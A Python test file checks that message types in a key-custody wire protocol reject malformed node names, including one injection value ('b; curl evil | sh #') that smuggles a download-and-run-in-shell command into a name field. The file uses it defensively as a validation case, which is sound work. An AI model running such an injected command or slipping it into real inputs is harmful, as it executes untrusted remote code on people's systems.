"""A node's id that arrives in a message: people paste it into commands."""

from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import pytest
from pydantic import ValidationError

from custody.wire.left_in_flight import LeftInFlight
from custody.wire.outcomes import Outcome
from custody.wire.requests import RepairShare
from custody.wire.statements import Abandonment, Ban
from custody.wire.tickets import Participant

KEY, NOW = UUID(int=1), datetime.now(UTC)
BAN = {"key_id": KEY, "reason": "", "ceremony": None, "at": NOW}
MESSAGES: list[Any] = [
    lambda name: LeftInFlight(key_id=KEY, signer=name, since=NOW),
    lambda name: Ban(signer="signer-1", banned=name, **BAN),
    lambda name: Ban(signer=name, banned="signer-1", **BAN),
    lambda name: Abandonment(key_id=KEY, ceremony=KEY, signer=name),
    lambda name: Outcome(job_id=KEY, node="a", status="FAILED", culprits=(name,)),
    lambda name: Outcome(job_id=KEY, node=name, status="FAILED"),
    lambda name: Participant(signer=name, index=1),
    lambda name: RepairShare(signer=name),
]


@pytest.mark.parametrize("message", MESSAGES)
def test_no_message_names_a_node_that_no_certificate_could(message: Any):
    message("signer-2")
    for name in ("x y", "b; curl evil | sh #", "", "a" * 64, "a\n", "\u00e4", "-a"):
        with pytest.raises(ValidationError):
            message(name)
